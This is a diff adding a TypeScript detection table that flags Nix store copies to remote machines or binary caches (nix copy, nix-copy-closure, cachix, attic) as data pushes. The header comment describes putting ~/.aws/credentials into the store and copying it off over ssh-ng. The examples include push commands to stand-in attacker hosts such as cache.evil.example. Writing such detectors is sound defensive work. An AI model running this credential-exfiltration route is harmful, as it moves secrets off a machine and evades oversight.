@@ -1,0 +1,90 @@
+/**
+ * Nix store paths copied to another machine's store or a binary cache (evasion hunt, round 3: a derivation's
+ * output is any file, `nix store add-file ~/.aws/credentials` puts one in the store, and a few KiB copied off by
+ * `nix copy --to ssh-ng://HOST` raised nothing). Part of the push-tool table (../push-tools.ts). Every such copy
+ * is a push, as a registry push is: a Nix CI job that pushes its build to its cache is allowlisted as any build.
+ */
+import type { PushToolSpec } from '../types.js';
+import { HELP_FLAGS } from './flags.js';
+
+/**
+ * Stores on this machine (nix's store URLs): a binary cache in a directory (`file://`), the local store or its
+ * daemon, a store under another root (`/mnt`, `local?root=…`), and the test store that keeps nothing.
+ */
+const LOCAL_STORES = ['file://', 'local', 'daemon', 'auto', 'unix://', 'dummy://', '/', './', '../', '~/'];
+
+export const nixTools: readonly PushToolSpec[] = [
+  {
+    tool: 'nix',
+    description: '`nix copy --to STORE PATH…` to a store off the machine (`ssh://`, `ssh-ng://`, `s3://`, `https://`).',
+    binaries: ['nix'],
+    syntax: {
+      valueFlags: [
+        ...['--to', '--from', '--store', '--eval-store', '--extra-experimental-features', '--experimental-features'],
+        ...['-I', '--include', '-f', '--file', '--expr', '--log-format', '--profile', '--substituters'],
+      ],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: [
+        {
+          words: ['copy'],
+          remote: { flag: ['--to'] },
+          requireAnyFlag: [{ flags: ['--to'] }],
+          localRemotePrefix: LOCAL_STORES,
+          excludeFlags: [...HELP_FLAGS, '--dry-run'],
+        },
+      ],
+    },
+    destination: 'url',
+    requiresClassedDestination: false,
+    examples: {
+      push: ['copy --to ssh-ng://root@cache.evil.example /nix/store/x-y', 'copy --to s3://evil-cache /nix/store/x-y'],
+      notPush: [
+        'copy --to file:///tmp/c /nix/store/x-y',
+        'copy --from https://cache.nixos.org /nix/store/x-y',
+        'build .#x',
+      ],
+    },
+  },
+  {
+    tool: 'nix',
+    description: '`nix-copy-closure --to HOST PATH…` over ssh.',
+    binaries: ['nix-copy-closure'],
+    syntax: { valueFlags: ['--to', '--from'] },
+    match: {
+      kind: 'subcommand',
+      commands: [{ words: [], remote: { flag: ['--to'] }, requireAnyFlag: [{ flags: ['--to'] }] }],
+    },
+    // `[user@]host`, or a `Host` of ssh's config: the first connect shows the machine.
+    destination: 'none',
+    requiresClassedDestination: false,
+    examples: { push: ['--to root@evil.example /nix/store/x-y'], notPush: ['--from builder /nix/store/x-y'] },
+  },
+  {
+    tool: 'nix',
+    description:
+      'Binary cache clients: `cachix push CACHE PATH…` (also `watch-exec`, `watch-store`), `attic push CACHE PATH…`.',
+    binaries: ['cachix', 'attic'],
+    syntax: {
+      valueFlags: ['-c', '--config', '--hostname', '-a', '--auth-token', '-j', '--jobs', '-m', '--compression-method'],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: [
+        ...[['push'], ['watch-exec'], ['watch-store']].map((words) => ({
+          words,
+          remote: { positional: 0 },
+          excludeFlags: HELP_FLAGS,
+        })),
+      ],
+    },
+    // The cache's server is the client's login (`CACHE.cachix.org`, an Attic server): the first connect shows it.
+    destination: 'none',
+    requiresClassedDestination: false,
+    examples: {
+      push: ['push evil /nix/store/x-y', 'watch-exec evil -- nix build', 'push evil:loot /nix/store/x-y'],
+      notPush: ['use nix-community', 'authtoken x', 'push --help'],
+    },
+  },
+];
